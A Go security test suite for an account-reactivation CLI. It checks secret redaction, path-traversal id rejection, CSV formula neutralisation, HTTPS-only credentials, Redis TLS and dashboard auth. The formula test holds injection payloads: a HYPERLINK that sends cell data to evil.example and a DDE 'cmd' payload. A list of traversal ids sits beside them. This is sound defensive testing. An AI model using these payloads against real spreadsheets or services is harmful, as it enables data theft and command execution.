// This file holds the security tests: no secret in Redis, logs, reports, errors or status --json;
// ids cannot change a URL's path; report cells cannot run as formulas; no credential over plain
// http; Redis over TLS with a CA file; the dashboard needs basic auth beyond loopback.

package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/csv"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/hibiken/asynq"
	"github.com/redis/go-redis/v9"

	"reactivator/internal/fakeidp"
	"reactivator/internal/leakcheck"
	"reactivator/internal/redistest"
	"reactivator/internal/status"
	"reactivator/jobs"
)

// secWorld is a cliWorld whose every output, report and Redis key is scanned for its secrets.
type secWorld struct {
	*cliWorld
	needles []leakcheck.Needle
	outputs bytes.Buffer
}

func newSecWorld(t *testing.T) *secWorld {
	t.Helper()
	w := &secWorld{cliWorld: newCLIWorld(t)}
	w.secret("stytch secret", wSecret)
	w.secret("zitadel token", wToken)
	w.needles = append(w.needles, leakcheck.BasicAuth("stytch credentials", wProjectID, wSecret)...)
	return w
}

// secret adds a secret to look for.
func (w *secWorld) secret(name, v string) {
	w.needles = append(w.needles, leakcheck.Needles(name, v)...)
	w.secrets = append(w.secrets, v)
}

// exec runs a command line with debug logs in JSON, keeps its output for the scan and checks
// its exit code.
func (w *secWorld) exec(want int, args ...string) result {
	w.t.Helper()
	r := w.run(append([]string{"--log-level", "debug", "--log-format", "json"}, args...)...)
	fmt.Fprintf(&w.outputs, "$ %s\n%s\n%s\n", strings.Join(args, " "), r.stdout, r.stderr)
	if r.code != want {
		w.t.Fatalf("reactivator %s: exit %d, want %d\n%s", strings.Join(args, " "), r.code, want, r)
	}
	return r
}

// scan fails the test for every needle found in the world's Redis, the outputs kept so far and
// the files of its directory but those named in skip (inputs that hold a secret on purpose).
func (w *secWorld) scan(skip ...string) {
	w.t.Helper()
	found, keys, err := leakcheck.Redis(context.Background(), w.redis, w.needles)
	if err != nil {
		w.t.Fatal(err)
	}
	if keys < 10 {
		w.t.Errorf("leak scan read %d Redis keys, want the runs' and asynq's keys (10 or more)", keys)
	}
	found = append(found, leakcheck.Lines("command output", w.outputs.Bytes(), w.needles)...)
	files, err := filepath.Glob(filepath.Join(w.dir, "*"))
	if err != nil {
		w.t.Fatal(err)
	}
	scanned := 0
	for _, f := range files {
		if slices.Contains(skip, filepath.Base(f)) {
			continue
		}
		b, err := os.ReadFile(f)
		if err != nil {
			w.t.Fatal(err)
		}
		scanned++
		found = append(found, leakcheck.Lines(filepath.Base(f), b, w.needles)...)
	}
	if scanned == 0 {
		w.t.Errorf("leak scan read no report file")
	}
	for _, f := range found {
		w.t.Errorf("secret leaked: %s", f)
	}
}

// echo is a provider answer that quotes what it was sent: a proxy or an upstream that echoes the
// request's credentials into its error message.
func stytchEcho(status int, errType string) fakeidp.Case {
	basic := leakcheck.BasicAuth("", wProjectID, wSecret)[0].Value
	msg := fmt.Sprintf("upstream rejected request with Authorization: Basic %s (project %s, secret %s)", basic, wProjectID, wSecret)
	return fakeidp.Case{Status: status, Body: fakeidp.StytchError(status, errType, msg)}
}

func zitadelEcho(status, code int, id, leaked string) fakeidp.Case {
	msg := "upstream rejected request with Authorization: Bearer " + leaked
	return fakeidp.Case{Status: status, Header: map[string]string{"X-Request-Id": "echo-" + strconv.Itoa(status)}, Body: fakeidp.ZitadelError(code, msg, id)}
}

func TestSecuritySecretsNeverLeak(t *testing.T) {
	t.Parallel()
	w := newSecWorld(t)

	// Stytch: an upstream echoing the credentials in a 500, once (then reactivated) and for good
	// (the row ends failed with that message as its last), a row not found, an invalid row.
	var csvb strings.Builder
	csvb.WriteString("organization_id,member_id\n")
	for i := 1; i <= 5; i++ {
		if i != 4 {
			w.stytch.AddMember(wOrgID, stytchMember(i), fakeidp.StytchDeleted, true)
		}
		fmt.Fprintf(&csvb, "%s,%s\n", wOrgID, stytchMember(i))
	}
	csvb.WriteString(wOrgID + ",not-a-member\n")
	w.stytch.Script(wOrgID, stytchMember(3), stytchEcho(500, "internal_server_error"), stytchEcho(500, "internal_server_error"))
	w.stytch.Script(wOrgID, stytchMember(5), stytchEcho(503, "some_new_outage"))
	stCSV := w.file("stytch.csv", csvb.String())
	w.exec(exitSomeFailed, "run", stCSV, "--max-attempts", "2", "--report", filepath.Join(w.dir, "stytch.report.csv"))

	// ZITADEL with a token: a 503 echoing the token, then a 401 echoing it, which pauses the
	// provider: status --json and the report are read while it is paused; the same command
	// then checks the credentials, resumes and finishes.
	zCSV := w.zitadelCSV("zitadel.csv", 3)
	w.zitadel.Script("300000000000000002", zitadelEcho(503, 14, "QUERY-Dh42f", wToken))
	w.zitadel.Script("300000000000000003", zitadelEcho(401, 16, "AUTH-7fs1e", wToken))
	zReport := filepath.Join(w.dir, "zitadel.report.csv")
	w.exec(exitFatal, "run", zCSV, "--concurrency", "1", "--report", zReport)
	st := w.exec(exitOK, "status", "--json")
	if !strings.Contains(st.stdout, `"paused"`) || !strings.Contains(st.stdout, "AUTH-7fs1e") {
		t.Errorf("status --json while paused = %s, want the pause and its reason", st.stdout)
	}
	zRun := w.onlyRunOf(jobs.Zitadel)
	for _, f := range []string{"csv", "json", "md"} {
		w.exec(exitOK, "report", zRun, "--format", f)
	}
	w.exec(exitOK, "run", zCSV, "--report", zReport)

	// ZITADEL with client credentials, then with a JWT-profile key file: upstream echoes of the
	// client secret and of the private key.
	const clientID, clientSecret = "reactivator-client@acme", "client-secret-Pw4Rt7Yu1Io3Pa6Sd9Fg2Hj5"
	w.secret("zitadel client secret", clientSecret)
	w.zitadel.AddClient(clientID, clientSecret, wZOrg)
	keyJSON, err := w.zitadel.AddKey("400000000000000001", wZOrg)
	if err != nil {
		t.Fatal(err)
	}
	var key fakeidp.KeyFile
	if err := json.Unmarshal(keyJSON, &key); err != nil {
		t.Fatal(err)
	}
	w.needles = append(w.needles, leakcheck.PEM("zitadel private key", key.Key)...)
	keyFile := w.file("key.json", string(keyJSON))

	w.setenv("ZITADEL_TOKEN", "")
	w.setenv("ZITADEL_CLIENT_ID", clientID)
	w.setenv("ZITADEL_CLIENT_SECRET", clientSecret)
	ccCSV := w.file("cc.csv", "user_id\n300000000000000011\n300000000000000012\n")
	w.zitadel.AddUser("300000000000000011", wZOrg, fakeidp.ZitadelInactive)
	w.zitadel.AddUser("300000000000000012", wZOrg, fakeidp.ZitadelInactive)
	w.zitadel.Script("300000000000000012", zitadelEcho(503, 14, "QUERY-Dh42f", clientSecret))
	w.exec(exitOK, "run", ccCSV, "--report", filepath.Join(w.dir, "cc.report.csv"))

	w.setenv("ZITADEL_CLIENT_ID", "")
	w.setenv("ZITADEL_CLIENT_SECRET", "")
	w.setenv("ZITADEL_KEY_FILE", keyFile)
	keyCSV := w.file("jwt.csv", "user_id\n300000000000000021\n300000000000000022\n")
	w.zitadel.AddUser("300000000000000021", wZOrg, fakeidp.ZitadelInactive)
	w.zitadel.AddUser("300000000000000022", wZOrg, fakeidp.ZitadelInactive)
	w.zitadel.Script("300000000000000022", zitadelEcho(503, 14, "QUERY-Dh42f", key.Key))
	w.exec(exitOK, "run", keyCSV, "--report", filepath.Join(w.dir, "jwt.report.csv"))

	// Refused credentials: the errors say so without quoting them.
	const wrongSecret, wrongToken = "secret-test-WRONG-Lk3Jh6Gf9Ds2Ap5Zx8Cv1=", "zitadel-pat-WRONG-Qw2Er5Ty8Ui1Op4"
	w.secret("wrong stytch secret", wrongSecret)
	w.secret("wrong zitadel token", wrongToken)
	w.setenv("ZITADEL_KEY_FILE", "")
	w.setenv("ZITADEL_TOKEN", wrongToken)
	w.setenv("STYTCH_SECRET", wrongSecret)
	w.exec(exitFatal, "check")
	w.exec(exitFatal, "ingest", stCSV, "--new-run")
	w.exec(exitFatal, "worker")
	w.exec(exitFatal, "run", zCSV, "--new-run", "--report", filepath.Join(w.dir, "refused.report.csv"))
	broken := w.file("broken-key.json", `{"type":"serviceaccount","keyId":"1","key":"`+strings.ReplaceAll(key.Key[:200], "\n", `\n`)+`","userId":"1"}`)
	w.setenv("ZITADEL_TOKEN", "")
	w.setenv("ZITADEL_KEY_FILE", broken)
	if r := w.run("--log-level", "debug", "check"); r.code == exitOK {
		t.Errorf("check with a broken key file: exit 0, want an error\n%s", r)
	} else {
		fmt.Fprintf(&w.outputs, "$ check (broken key)\n%s\n%s\n", r.stdout, r.stderr)
	}

	w.exec(exitOK, "status", "--json")
	w.exec(exitOK, "status")
	w.scan("key.json", "broken-key.json")

	// The echoes did reach the logs and reports, with the secrets cut out: the scan above was
	// not clean by accident.
	out := w.outputs.String()
	for _, want := range []string{"Authorization: Basic [redacted] (project " + wProjectID + ", secret [redacted])", "Authorization: Bearer [redacted]"} {
		if !strings.Contains(out, want) {
			t.Errorf("command output never says %q: the echoing answers did not reach the logs", want)
		}
	}
	if n := strings.Count(out, "Authorization: Bearer [redacted]"); n < 3 {
		t.Errorf("command output has %d redacted bearer echoes, want 3 or more (token, client secret, key)", n)
	}
}

// csvFile writes records as a CSV file (RFC 4180 quoting) into the world's directory.
func (w *cliWorld) csvFile(name string, records [][]string) string {
	w.t.Helper()
	var b bytes.Buffer
	cw := csv.NewWriter(&b)
	if err := cw.WriteAll(records); err != nil {
		w.t.Fatal(err)
	}
	return w.file(name, b.String())
}

// onlyRunOf returns the id of the world's only run of provider p.
func (w *cliWorld) onlyRunOf(p jobs.Provider) string {
	w.t.Helper()
	runs, err := w.store.Runs(context.Background())
	if err != nil {
		w.t.Fatal(err)
	}
	var ids []string
	for _, r := range runs {
		if r.Provider == p {
			ids = append(ids, r.ID)
		}
	}
	if len(ids) != 1 {
		w.t.Fatalf("runs of %s = %v, want one", p, ids)
	}
	return ids[0]
}

func TestSecurityRedisPasswordNeverLeaks(t *testing.T) {
	t.Parallel()
	const password = "redis-pw-Ty6Ui9Op2As5Df8Gh1"
	srv, err := redistest.Start(t.TempDir(), redistest.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(srv.Stop)
	admin := redis.NewClient(&redis.Options{Addr: srv.Addr})
	err = admin.ConfigSet(context.Background(), "requirepass", password).Err()
	_ = admin.Close()
	if err != nil {
		t.Fatal(err)
	}
	w := newSecWorld(t)
	w.secret("redis password", password)
	w.redis = redis.NewClient(&redis.Options{Addr: srv.Addr, Password: password})
	t.Cleanup(func() { _ = w.redis.Close() })
	w.opt = asynq.RedisClientOpt{Addr: srv.Addr, Password: password}
	w.store = jobs.NewStore(w.redis)
	w.setenv("REDIS_URL", "redis://:"+password+"@"+srv.Addr+"/0")

	csvPath := w.stytchCSV("members.csv", 5)
	w.exec(exitOK, "run", csvPath, "--report", filepath.Join(w.dir, "members.report.csv"))
	stop := w.startWorker("--log-level", "debug", "--log-format", "json")
	if r := stop(); r.code != exitOK {
		t.Errorf("worker: %s", r)
	} else {
		fmt.Fprintf(&w.outputs, "$ worker\n%s\n%s\n", r.stdout, r.stderr)
	}
	w.exec(exitOK, "status", "--json")

	// A wrong password: the error names the server, not the password.
	const wrong = "redis-pw-WRONG-Zx3Cv6Bn9"
	w.secret("wrong redis password", wrong)
	w.setenv("REDIS_URL", "redis://:"+wrong+"@"+srv.Addr+"/0")
	r := w.exec(exitError, "status")
	if !strings.Contains(r.stderr, srv.Addr) {
		t.Errorf("status with a wrong Redis password: stderr = %q, want it to name %s", r.stderr, srv.Addr)
	}
	w.scan()
}

func TestSecurityIDsCannotChangeTheURL(t *testing.T) {
	t.Parallel()
	// Ids that would change the path or the query: refused before any call.
	hostile := []string{"../../v1/b2b/organizations/search", "..", "x-%2Fb", "x-a?x=1", "x-a#frag",
		"x-a\nb", `x-a\b`, "x-a/../../x", "x-%2e%2e"}
	// Ids with characters a path must escape: called, with each id one escaped segment.
	odd := map[string]string{`x-a"b`: "x-a%22b", "x-é": "x-%C3%A9", "x-[1]": "x-%5B1%5D", "x-a<b>c": "x-a%3Cb%3Ec"}
	oddIDs := make([]string, 0, len(odd))
	for id := range odd {
		oddIDs = append(oddIDs, id)
	}
	slices.Sort(oddIDs)

	tests := []struct {
		provider jobs.Provider
		// rows returns the CSV records for an id, adding the account to the fake when add is set.
		rows   func(w *cliWorld, id string, add bool) [][]string
		header []string
		// path is the exact path a call for an escaped id must arrive at.
		path  func(escaped string) string
		paths func(w *cliWorld) []string
	}{{
		provider: jobs.Stytch,
		header:   []string{"organization_id", "member_id"},
		rows: func(w *cliWorld, id string, add bool) [][]string {
			// "x-…" ids get Stytch's prefixes; path segments ("..") stay as they are.
			member, org := id, id
			if rest, ok := strings.CutPrefix(id, "x-"); ok {
				member, org = "member-test-x-"+rest, "organization-test-x-"+rest
			}
			if add {
				w.stytch.AddMember(wOrgID, member, fakeidp.StytchDeleted, true)
				return [][]string{{wOrgID, member}}
			}
			return [][]string{{wOrgID, member}, {org, stytchMember(1)}}
		},
		path: func(e string) string {
			return "/v1/b2b/organizations/" + wOrgID + "/members/member-test-" + e + "/reactivate"
		},
		paths: func(w *cliWorld) []string { return w.stytch.LastPaths() },
	}, {
		provider: jobs.Zitadel,
		header:   []string{"user_id"},
		rows: func(w *cliWorld, id string, add bool) [][]string {
			if add {
				w.zitadel.AddUser(id, wZOrg, fakeidp.ZitadelInactive)
			}
			return [][]string{{id}}
		},
		path:  func(e string) string { return "/v2/users/" + e + "/reactivate" },
		paths: func(w *cliWorld) []string { return w.zitadel.LastPaths() },
	}}
	for _, tt := range tests {
		t.Run(string(tt.provider), func(t *testing.T) {
			t.Parallel()
			w := newCLIWorld(t)
			recs := [][]string{tt.header}
			nHostile := 0
			for _, id := range hostile {
				rs := tt.rows(w, id, false)
				recs = append(recs, rs...)
				nHostile += len(rs)
			}
			var want []string
			for _, id := range oddIDs {
				recs = append(recs, tt.rows(w, id, true)...)
				want = append(want, tt.path(odd[id]))
			}
			path := w.csvFile("hostile.csv", recs)
			r := w.run("run", path, "--report", filepath.Join(w.dir, "hostile.report.csv"))
			if r.code != exitSomeFailed {
				t.Fatalf("run: %s\nwant exit 3 (the hostile rows are invalid)", r)
			}
			run := w.onlyRun()
			if got := run.Counts[jobs.Invalid]; got != nHostile {
				t.Errorf("invalid rows = %d, want %d (every hostile id refused): %v", got, nHostile, run.Counts)
			}
			if got := run.Counts[jobs.Reactivated]; got != len(odd) {
				t.Errorf("reactivated rows = %d, want the %d odd but valid ids: %v", got, len(odd), run.Counts)
			}
			var got []string
			for _, p := range tt.paths(w) {
				if strings.HasSuffix(p, "/reactivate") {
					got = append(got, p)
				}
			}
			slices.Sort(got)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("paths that reached the fake = %q\nwant exactly %q", got, want)
			}
		})
	}
}

func TestSecurityReportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	w := newCLIWorld(t)
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\tx", "\r=1"}
	recs := [][]string{{"organization_id", "member_id", "note"}}
	for i, f := range formulas {
		w.stytch.AddMember(wOrgID, stytchMember(i+1), fakeidp.StytchDeleted, true)
		recs = append(recs, []string{wOrgID, stytchMember(i + 1), f})
	}
	// An organization slug that starts like a formula is a valid id, and not found here.
	recs = append(recs, []string{"=cmd", stytchMember(99), "plain"})
	path := w.csvFile("formulas.csv", recs)
	reportPath := filepath.Join(w.dir, "formulas.report.csv")
	if r := w.run("run", path, "--report", reportPath); r.code != exitSomeFailed {
		t.Fatalf("run: %s\nwant exit 3", r)
	}
	b, err := os.ReadFile(reportPath)
	if err != nil {
		t.Fatal(err)
	}
	recs, err = csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("report is not CSV: %v\n%s", err, b)
	}
	if len(recs) != len(formulas)+2 {
		t.Fatalf("report has %d records, want header and %d rows:\n%s", len(recs), len(formulas)+1, b)
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("report cell %q (column %s) starts like a formula, want it neutralised", cell, recs[0][i])
			}
		}
	}
	for i, f := range formulas {
		if got := recs[i+1][len(recs[i+1])-1]; !strings.HasSuffix(got, strings.TrimLeft(f, "\t\r")) {
			t.Errorf("note of line %d = %q, want %q kept after the neutralising prefix", i+2, got, f)
		}
	}
}

func TestSecurityCredentialsNeverOverPlainHTTP(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, key, url string
		// refusal is what the error must say; "" when the URL is accepted.
		refusal string
	}{
		{"stytch to a remote host", "STYTCH_BASE_URL", "http://api.stytch.example", "use https"},
		{"stytch to a LAN address", "STYTCH_BASE_URL", "http://10.0.0.5:8080", "use https"},
		{"stytch to a loopback look-alike", "STYTCH_BASE_URL", "http://127.0.0.1.nip.io", "use https"},
		{"zitadel to a remote host", "ZITADEL_URL", "http://acme.zitadel.example", "use https"},
		{"zitadel with user info", "ZITADEL_URL", "https://user:pw@acme.zitadel.example", "user info"},
		{"stytch to loopback", "STYTCH_BASE_URL", "", ""},
		{"zitadel to localhost", "ZITADEL_URL", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w := newCLIWorld(t)
			if tt.url != "" {
				w.setenv(tt.key, tt.url)
			} else if tt.key == "ZITADEL_URL" {
				w.setenv(tt.key, strings.Replace(w.getenv(tt.key), "127.0.0.1", "localhost", 1))
			}
			r := w.run("check")
			if tt.refusal == "" {
				if r.code != exitOK {
					t.Errorf("check with %s=%s: %s\nwant exit 0", tt.key, w.getenv(tt.key), r)
				}
				return
			}
			if r.code == exitOK || !strings.Contains(r.stderr, tt.refusal) {
				t.Errorf("check with %s=%s: %s\nwant a refusal saying %q", tt.key, tt.url, r, tt.refusal)
			}
			if strings.Contains(r.stderr, "pw@") {
				t.Errorf("check with %s=%s: stderr quotes the URL's password:\n%s", tt.key, tt.url, r.stderr)
			}
			if n := w.stytch.TotalCalls() + len(w.stytch.LastPaths()) + len(w.zitadel.LastPaths()); n != 0 {
				t.Errorf("check with %s=%s: %d requests reached the fakes, want none", tt.key, tt.url, n)
			}
		})
	}
}

func TestSecurityRedisTLS(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	caFile, certFile, keyFile := writeTLSFiles(t, dir)
	port, err := redistest.FreePort()
	if err != nil {
		t.Fatal(err)
	}
	// The plain port stays open for redistest's readiness probe; the test uses the TLS port only.
	srv, err := redistest.Start(dir, redistest.Options{Args: []string{
		"--tls-port", strconv.Itoa(port), "--tls-cert-file", certFile, "--tls-key-file", keyFile,
		"--tls-ca-cert-file", caFile, "--tls-auth-clients", "no"}})
	if err != nil {
		t.Fatalf("redis-server with TLS: %v", err)
	}
	t.Cleanup(srv.Stop)
	w := newCLIWorld(t)
	url := "rediss://127.0.0.1:" + strconv.Itoa(port) + "/0"
	w.setenv("REDIS_URL", url)

	t.Run("without the CA the certificate is refused", func(t *testing.T) {
		if r := w.run("status"); r.code != exitError || !strings.Contains(r.stderr, "certificate") {
			t.Errorf("status over rediss:// without --redis-ca: %s\nwant exit 1 naming the certificate", r)
		}
	})
	t.Run("with the CA a run goes through", func(t *testing.T) {
		path := w.stytchCSV("tls.csv", 5)
		if r := w.run("--redis-ca", caFile, "run", path, "--report", filepath.Join(w.dir, "tls.report.csv")); r.code != exitOK {
			t.Fatalf("run over rediss:// with --redis-ca: %s\nwant exit 0", r)
		}
		w.setenv("REDIS_CA_FILE", caFile)
		r := w.run("status", "--json")
		var v status.View
		if err := json.Unmarshal([]byte(r.stdout), &v); err != nil || len(v.Runs) != 1 || v.Runs[0].Counts[jobs.Reactivated] != 5 {
			t.Errorf("status --json over rediss:// = %s (%v), want one run with 5 rows reactivated", r.stdout, err)
		}
	})
}

// writeTLSFiles writes a CA and a server certificate for 127.0.0.1 signed by it, and returns
// the CA's, the certificate's and its key's paths.
func writeTLSFiles(t *testing.T, dir string) (caFile, certFile, keyFile string) {
	t.Helper()
	caKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	ca := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "reactivator test CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign,
	}
	caDER, err := x509.CreateCertificate(rand.Reader, ca, ca, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	srvKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	leaf := &x509.Certificate{
		SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: "127.0.0.1"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		IPAddresses: []net.IP{net.ParseIP("127.0.0.1")}, KeyUsage: x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	caCert, err := x509.ParseCertificate(caDER)
	if err != nil {
		t.Fatal(err)
	}
	leafDER, err := x509.CreateCertificate(rand.Reader, leaf, caCert, &srvKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	keyDER, err := x509.MarshalECPrivateKey(srvKey)
	if err != nil {
		t.Fatal(err)
	}
	write := func(name, typ string, der []byte) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, pem.EncodeToMemory(&pem.Block{Type: typ, Bytes: der}), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	return write("ca.pem", "CERTIFICATE", caDER), write("server.pem", "CERTIFICATE", leafDER), write("server-key.pem", "EC PRIVATE KEY", keyDER)
}

func TestSecurityDashNeedsAuthBeyondLoopback(t *testing.T) {
	t.Parallel()
	for _, addr := range []string{":0", "0.0.0.0:0", "[::]:0", "192.168.1.10:0", "dash.example:0"} {
		t.Run(addr, func(t *testing.T) {
			t.Parallel()
			w := newCLIWorld(t)
			// A dash that did bind would serve until its context ends: give it one.
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()
			r := w.runCtx(ctx, "dash", "--addr", addr)
			if r.code != exitUsage || !strings.Contains(r.stderr, "basic auth") {
				t.Errorf("dash --addr %s without credentials: %s\nwant exit 2 asking for basic auth", addr, r)
			}
		})
	}
}
